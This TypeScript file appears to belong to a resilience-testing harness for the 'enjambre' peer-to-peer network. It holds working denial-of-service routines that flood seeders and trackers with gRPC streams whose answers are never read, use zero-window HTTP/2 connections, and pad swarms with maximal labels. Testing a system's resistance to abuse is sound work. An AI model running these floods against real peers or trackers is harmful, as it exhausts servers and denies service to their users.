import { setTimeout as delay } from 'node:timers/promises';
import { GetMetainfoRequest, PeerServiceService } from '@enjambre/proto/gen/enjambre/peer/v1/peer';
import { GetSwarmRequest, TrackerServiceService } from '@enjambre/proto/gen/enjambre/tracker/v1/tracker';
import { isUnderWay, type Attack } from '../attack.js';
import { floodStreams } from '../flood.js';
import type { RawConnection } from '../raw-connection.js';
import { reach } from '../reach.js';
import { connectTracker } from '../sessions.js';

/** A swarm of the attacker's own. */
const OWN_SWARM = Buffer.alloc(32, 0x66);
const MEMBERS = 200;
const STREAMS = 20;
const RETRY_MS = 500;
/** The most that a hello may hold. */
const LABELS = Object.fromEntries(
  Array.from({ length: 16 }, (_, number) => [`label-${number}`.padEnd(63, 'x'), 'y'.repeat(255)]),
);

/** Calls of GetMetainfo, for metainfo of half a megabyte, whose answers are never read. */
export const metainfoStreams: Attack = (run) => {
  const request = { infohash: Buffer.from(run.targets.infohash, 'hex') };
  const message = GetMetainfoRequest.encode(request).finish();
  return floodStreams(run, { address: run.targets.seeder, method: PeerServiceService.getMetainfo, message });
};

/** The same from `count` connections, of 20 streams each: within the limits of HTTP/2. */
export const metainfoConnections: Attack = async (run) => {
  const { targets, tally } = run;
  const message = GetMetainfoRequest.encode({ infohash: Buffer.from(targets.infohash, 'hex') }).finish();
  const open = new Set<RawConnection>();
  while (isUnderWay(run)) {
    for (let tried = 0; open.size < run.count && tried < run.count && isUnderWay(run); tried++) {
      const connection = await reach(run, targets.seeder, { window: 0 });
      if (!connection?.isOpen) continue;
      open.add(connection);
      connection.onClose = () => void open.delete(connection);
    }
    for (const connection of open)
      while (connection.isOpen && connection.calls.size < STREAMS)
        connection.call(PeerServiceService.getMetainfo.path).send(message).end();
    tally.inFullSwing = true;
    await delay(RETRY_MS);
  }
};

/** Joins a swarm with as many members and labels as it may, then calls GetSwarm and never reads the answers. */
export const swarmAnswers: Attack = async (run) => {
  const { targets, tally } = run;
  const connection = await reach(run, targets.tracker);
  for (let number = 0; number < MEMBERS && connection?.isOpen && isUnderWay(run); number++) {
    const session = await connectTracker(connection, tally, { labels: LABELS });
    const file = { name: 'hostile.bin', sizeBytes: 1_000_000n, pieceLength: 16_384n, fileCount: 1 };
    session?.say({ $case: 'share', value: { infohash: OWN_SWARM, file, restated: false, publications: [] } });
  }
  const request = { infohash: OWN_SWARM.toString('hex'), maxPeers: MEMBERS };
  const message = GetSwarmRequest.encode(request).finish();
  await floodStreams(run, { address: targets.tracker, method: TrackerServiceService.getSwarm, message });
  connection?.close();
};
